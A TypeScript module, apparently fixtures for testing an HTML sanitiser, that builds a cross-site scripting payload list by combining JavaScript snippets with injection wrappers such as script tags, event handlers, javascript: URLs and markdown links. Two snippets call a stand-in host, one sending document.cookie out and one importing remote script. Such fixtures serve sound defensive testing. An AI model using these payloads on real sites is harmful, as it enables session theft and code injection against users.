/** What has been tried on pages that make HTML of text: ways in, with what is to run there. */
const RUNS = [
  "alert(1)",
  "alert`1`",
  "top['al'+'ert'](1)",
  "eval(atob('YWxlcnQoMSk='))",
  "fetch('https://evil.example/?'+document.cookie)",
  "&#97;lert(1)",
  "\\u0061lert(1)",
  "import('https://evil.example/x.js')",
];

const WAYS: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt>${run}</sCrIpT>`,
  (run) => `"><script>${run}</script>`,
  (run) => `</textarea><script>${run}</script>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x>`,
  (run) => `<body onload=${run}>`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<a href="javascript:${run}">here</a>`,
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java\u0000script:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `javascript://www.homes.example/%0a${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `[here](javascript:${run})`,
  (run) => `https://homes.example/"onmouseover="${run}`,
  (run) => `https://homes.example/'onmouseover='${run}`,
  (run) => `www.homes.example/"><script>${run}</script>`,
  (run) => `mailto:ada@homes.example"onclick="${run}`,
  (run) => `<math><mtext></mtext><mglyph><style><img src onerror=${run}></style>`,
  (run) => `{{constructor.constructor("${run}")()}}`,
];

export const ATTACKS: readonly string[] = WAYS.flatMap((way) => RUNS.map(way));
